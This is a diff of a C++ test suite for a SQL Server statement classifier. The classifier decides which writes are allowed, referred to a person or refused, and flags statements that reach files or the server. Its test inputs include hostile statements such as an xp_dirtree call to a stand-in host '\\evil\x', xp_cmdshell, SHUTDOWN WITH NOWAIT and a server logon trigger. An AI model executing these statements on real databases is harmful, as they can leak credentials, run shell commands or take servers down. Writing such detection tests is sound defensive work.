@@ -78,8 +78,8 @@ TEST_CASE("what leaves the database is found, whatever it is written like") {
        {"files BULK INSERT", "writes-rows BULK INSERT dbo.t"}},
       {"EXEC master.sys.xp_dirtree '\\\\evil\\x'", {"files xp_dirtree"}},
       {"SELECT * FROM sys.fn_get_audit_file('*', NULL, NULL)", {"files fn_get_audit_file"}},
-      {"BACKUP DATABASE d TO DISK = 'x'", {"files BACKUP d"}},
-      {"RESTORE DATABASE d FROM DISK = 'x'", {"server RESTORE d"}},
+      {"BACKUP DATABASE d TO DISK = 'x'", {"files BACKUP"}},
+      {"RESTORE DATABASE d FROM DISK = 'x'", {"server RESTORE"}},
       {"RECONFIGURE WITH OVERRIDE", {"server RECONFIGURE"}},
       {"EXEC sp_configure 'show advanced options', 1", {"server sp_configure"}},
       {"SHUTDOWN WITH NOWAIT", {"server SHUTDOWN"}},
@@ -156,12 +156,22 @@ TEST_CASE("a target is written in its schemas, and dropped by a person") {
   };
   CHECK(verdict("INSERT marts.t SELECT * FROM dbo.u") == Verdict::kAllow);
   CHECK(verdict("CREATE TABLE [MARTS].t (a int)") == Verdict::kAllow);
+  CHECK(verdict("CREATE SCHEMA marts") == Verdict::kAllow);
+  CHECK(verdict("CREATE TRIGGER g ON marts.t AFTER INSERT AS DELETE marts.u") == Verdict::kAllow);
+  CHECK(verdict("ALTER INDEX ALL ON marts.t REBUILD") == Verdict::kAllow);
+  CHECK(verdict("ALTER TABLE marts.t SWITCH TO marts.u") == Verdict::kAllow);
   CHECK(verdict("DROP TABLE marts.t") == Verdict::kAskPerson);
   CHECK(verdict("EXEC marts.p") == Verdict::kAskPerson);  // its effects may be anywhere
   for (const std::string sql :
        {"INSERT dbo.t VALUES (1)", "INSERT t VALUES (1)", "DROP TABLE dbo.t",
         "INSERT other.marts.t VALUES (1)", "UPDATE x SET a = 1 FROM dbo.t AS x",
-        "CREATE PROCEDURE marts.p AS EXEC xp_cmdshell 'dir'", "EXEC (@sql)"}) {
+        "CREATE PROCEDURE marts.p AS EXEC xp_cmdshell 'dir'", "EXEC (@sql)", "CREATE SCHEMA dbo2",
+        "ALTER SCHEMA marts TRANSFER dbo.t", "ALTER TABLE marts.t SWITCH TO dbo.t",
+        "CREATE TRIGGER marts.g ON dbo.t AFTER INSERT AS PRINT 'x'",
+        "CREATE TRIGGER g ON ALL SERVER AFTER LOGON AS PRINT 'x'",
+        "DISABLE TRIGGER marts.g ON dbo.t", "ALTER INDEX marts ON dbo.t REBUILD",
+        "WRITETEXT marts.t @p 'x'", "UPDATE STATISTICS dbo.t", "DROP INDEX i ON dbo.t",
+        "DROP STATISTICS dbo.t.s", "EXEC sp_rename 'dbo.t', 'u'"}) {
     INFO(sql);
     CHECK(verdict(sql) == Verdict::kRefuse);
   }
